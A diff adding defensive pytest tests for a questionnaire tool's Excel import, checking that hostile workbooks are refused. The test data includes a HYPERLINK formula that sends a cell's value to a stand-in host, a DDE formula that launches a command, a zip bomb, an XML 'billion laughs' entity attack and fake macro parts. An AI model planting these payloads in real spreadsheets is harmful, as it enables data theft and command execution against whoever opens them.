@@ -1,0 +1,161 @@
+"""Hostile workbooks: formulas, files that are not XLSX, zip bombs, a million rows, macros, XML tricks.
+
+Each is refused with a clear message (FormRefused, exit 2) before anything is
+saved, within bounded time and memory.
+"""
+
+from __future__ import annotations
+
+import re
+import time
+import tracemalloc
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from conftest import answers
+from forms_helpers import SHEET_HEAD, SHEET_TAIL, content_types, copy, edit, many_rows, package, table_cell
+
+from masterplan.cli import main
+from masterplan.cli_form import form
+from masterplan.forms import FormRefused, export_form, import_form
+from masterplan.forms.safety import MAX_FILE_BYTES, MAX_ROWS, MAX_UNPACKED_BYTES
+
+
+def _refused(path: Path, root: Path, match: str) -> None:
+    before = answers(root, 2, "dinkes").read_bytes()
+    with pytest.raises(FormRefused, match=match):
+        import_form(path, root, person="retno")
+    assert answers(root, 2, "dinkes").read_bytes() == before
+
+
+@pytest.fixture
+def workbook(example: Path, tmp_path: Path) -> Path:
+    return export_form(example, 2, "dinkes", tmp_path / "dinkes.xlsx").path
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=HYPERLINK("http://contoh.invalid/?d="&A5,"klik")', "=cmd|' /C calc'!A0", "=1+1"],
+)
+def test_a_formula_is_refused_not_evaluated(example: Path, workbook: Path, formula: str) -> None:
+    ref = table_cell(2, "programs", "partners", 1)
+    edit(workbook, {ref: formula})
+    _refused(workbook, example, re.escape(f"berisi rumus di {ref}; rumus tidak dijalankan"))
+
+
+def test_every_formula_cell_is_named(example: Path, workbook: Path) -> None:
+    cells = [table_cell(2, "programs", "partners", row) for row in range(1, 13)]
+    edit(workbook, dict.fromkeys(cells, "=2*3"))
+    with pytest.raises(FormRefused) as refused:
+        import_form(workbook, example, person="retno")
+    message = str(refused.value)
+    assert cells[0] in message and cells[9] in message and "dan 2 sel lainnya" in message
+
+
+def test_a_file_that_is_not_an_xlsx_is_refused(example: Path, tmp_path: Path) -> None:
+    text = tmp_path / "isian.xlsx"
+    text.write_text("kode;anggaran\nSG-01;100\n", encoding="utf-8")
+    _refused(text, example, "bukan buku kerja Excel .xlsx; simpan ulang")
+    old = tmp_path / "lama.xlsx"
+    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
+    _refused(old, example, r"format \.xls lama atau berkas berkata sandi")
+    broken = tmp_path / "rusak.xlsx"
+    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
+    _refused(broken, example, "arsip rusak")
+    document = tmp_path / "dokumen.xlsx"
+    with zipfile.ZipFile(document, "w") as archive:
+        archive.writestr(
+            "[Content_Types].xml",
+            content_types(
+                main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+            ),
+        )
+    _refused(document, example, "tidak memuat buku kerja spreadsheet")
+    csv = tmp_path / "isian.csv"
+    csv.write_text("a,b\n", encoding="utf-8")
+    _refused(csv, example, r"akhiran \.csv")
+
+
+def test_a_zip_bomb_is_refused_from_its_declared_size(example: Path, tmp_path: Path) -> None:
+    zeros = b"\0" * (1024 * 1024)
+    size = MAX_UNPACKED_BYTES // len(zeros) + 20
+    bomb = package(tmp_path / "bom.xlsx", [SHEET_HEAD, *([zeros] * size), SHEET_TAIL])
+    assert bomb.stat().st_size < 1024 * 1024  # small on disk, huge unpacked
+    started = time.perf_counter()
+    _refused(bomb, example, r"mengembang menjadi .* MB saat dibuka .*zip bomb")
+    assert time.perf_counter() - started < 2
+
+
+def test_a_file_too_large_is_not_even_read(example: Path, tmp_path: Path) -> None:
+    big = tmp_path / "besar.xlsx"
+    with big.open("wb") as handle:
+        handle.truncate(MAX_FILE_BYTES + 1)  # sparse: costs no time or disk
+    _refused(big, example, r"terlalu besar \(20.0 MB\); batasnya 20.0 MB")
+
+
+def test_an_archive_of_many_members_is_refused(example: Path, tmp_path: Path) -> None:
+    extra = {f"xl/media/gambar{n}.png": b"" for n in range(1200)}
+    _refused(package(tmp_path / "banyak.xlsx", extra=extra), example, "berisi 1205 bagian, lebih dari 1000")
+
+
+def test_a_million_rows_are_refused_fast_and_small(example: Path, tmp_path: Path) -> None:
+    huge = package(tmp_path / "sejuta.xlsx", many_rows(1_000_000))
+    with zipfile.ZipFile(huge) as archive:
+        assert sum(i.file_size for i in archive.infolist()) < MAX_UNPACKED_BYTES  # the size limit lets it in
+    started = time.perf_counter()
+    tracemalloc.start()
+    try:
+        _refused(huge, example, f"lebih dari {MAX_ROWS:,} baris".replace(",", "."))
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert time.perf_counter() - started < 10
+    assert peak < 10 * 1024 * 1024
+
+
+def test_rows_are_also_counted_while_reading(example: Path, tmp_path: Path) -> None:
+    """A sheet whose rows skip ahead (``<row r="20000">``) passes the pre-scan but not the reader."""
+    sparse = (
+        SHEET_HEAD + b'<row r="1"><c r="A1"><v>1</v></c></row><row r="20000"><c r="A20000"><v>1</v></c></row>'
+    )
+    _refused(package(tmp_path / "loncat.xlsx", [sparse, SHEET_TAIL]), example, "lebih dari 10.000 baris")
+
+
+def test_macros_are_refused(example: Path, workbook: Path, tmp_path: Path) -> None:
+    _refused(copy(workbook, tmp_path / "bermakro.xlsm"), example, r"berisi makro \(berkas \.xlsm\)")
+    with_vba = copy(workbook, tmp_path / "vba.xlsx")
+    with zipfile.ZipFile(with_vba, "a") as archive:
+        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really")
+    _refused(with_vba, example, r"berisi makro \(xl/vbaProject.bin\)")
+    macro_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+    _refused(package(tmp_path / "jenis.xlsx", types=content_types(main=macro_type)), example, "berisi makro")
+    sheet4 = package(tmp_path / "xlm.xlsx", extra={"xl/macrosheets/sheet1.xml": b"<xm/>"})
+    _refused(sheet4, example, "berisi makro")
+
+
+def test_xml_entity_tricks_are_refused(example: Path, tmp_path: Path) -> None:
+    laughs = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
+        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
+    )
+    _refused(package(tmp_path / "entitas.xlsx", [laughs]), example, "tidak dapat dibaca sebagai buku kerja")
+
+
+def test_a_workbook_without_masterplan_metadata_is_refused(example: Path, tmp_path: Path) -> None:
+    plain = package(
+        tmp_path / "biasa.xlsx", [SHEET_HEAD, b'<row r="1"><c r="A1"><v>1</v></c></row>', SHEET_TAIL]
+    )
+    _refused(plain, example, "bukan buku kerja kuesioner masterplan")
+
+
+def test_the_command_line_refuses_with_exit_2_and_no_traceback(example: Path, tmp_path: Path) -> None:
+    text = tmp_path / "isian.xlsx"
+    text.write_text("bukan xlsx", encoding="utf-8")
+    main.add_command(form)
+    result = CliRunner().invoke(main, ["form", "import", str(text), str(example), "--as", "retno"])
+    assert result.exit_code == 2
+    assert result.stderr.startswith("masterplan: berkas isian.xlsx bukan buku kerja Excel .xlsx")
+    assert "Traceback" not in result.output + result.stderr
